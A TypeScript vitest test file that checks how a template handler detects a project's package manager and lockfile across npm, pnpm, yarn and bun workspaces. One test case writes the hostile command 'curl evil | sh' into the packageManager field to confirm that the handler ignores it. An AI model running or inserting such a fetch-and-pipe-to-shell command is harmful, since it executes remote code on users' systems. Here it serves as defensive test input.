import { expect, it } from 'vitest'
import { type Installing, readInstalling } from '../../../src/handlers/template/read-installing.ts'
import { memorySnapshot } from '../../support/memory-snapshot.ts'

const pnpm = { 'pnpm-workspace.yaml': "packages:\n  - 'apps/*'\n  - '!apps/old'\n" }
const own = { 'apps/api/package-lock.json': '{}', 'apps/old/package-lock.json': '{}' }
const workspaces = (value: unknown, more: object = {}): Record<string, string> => ({
  'package.json': JSON.stringify({ workspaces: value, ...more }),
})

it.each<[what: string, files: Record<string, string>, root: string, expected: Installing]>([
  ['nothing says how', {}, '', { manager: 'npm' }],
  ['a lockfile beside it', { 'bun.lock': '' }, '', { manager: 'bun', lockfile: 'bun.lock' as never }],
  ['the nearest lockfile above', { 'yarn.lock': '', 'a/x.ts': '' }, 'a/b/', { manager: 'yarn', lockfile: 'yarn.lock' as never }],
  [
    'a workspace of pnpm that lists it, and a stray lockfile',
    { ...pnpm, ...own, 'pnpm-lock.yaml': '' },
    'apps/api/',
    { manager: 'pnpm', lockfile: 'pnpm-lock.yaml' as never },
  ],
  ['a workspace of pnpm without its lockfile', { ...pnpm, ...own }, 'apps/api/', { manager: 'pnpm' }],
  [
    'a workspace that takes it back',
    { ...pnpm, ...own, 'pnpm-lock.yaml': '' },
    'apps/old/',
    { manager: 'npm', lockfile: 'apps/old/package-lock.json' as never },
  ],
  [
    'a workspace that does not list it',
    { ...workspaces(['packages/*']), ...own, 'yarn.lock': '' },
    'apps/api/',
    { manager: 'npm', lockfile: 'apps/api/package-lock.json' as never },
  ],
  [
    'a workspace of yarn, as an object',
    { ...workspaces({ packages: ['./apps/*/'] }), ...own, 'yarn.lock': '' },
    'apps/api/',
    { manager: 'yarn', lockfile: 'yarn.lock' as never },
  ],
  [
    'the field of the manifest at the root of the workspace',
    { ...workspaces(['apps/**'], { packageManager: 'bun@1.2.0' }), ...own, 'yarn.lock': '', 'bun.lock': '' },
    'apps/api/',
    { manager: 'bun', lockfile: 'bun.lock' as never },
  ],
  ['a field of no known manager', { 'package.json': '{ "packageManager": "curl evil | sh" }' }, '', { manager: 'npm' }],
  [
    'a manifest and a workspace that cannot be read',
    { 'package.json': '{', 'pnpm-workspace.yaml': 'packages: [' },
    'apps/api/',
    { manager: 'npm' },
  ],
])('is told by %s', async (_, files, root, expected) => {
  expect(await readInstalling(memorySnapshot(files, 'shop'), root)).toEqual(expected)
})
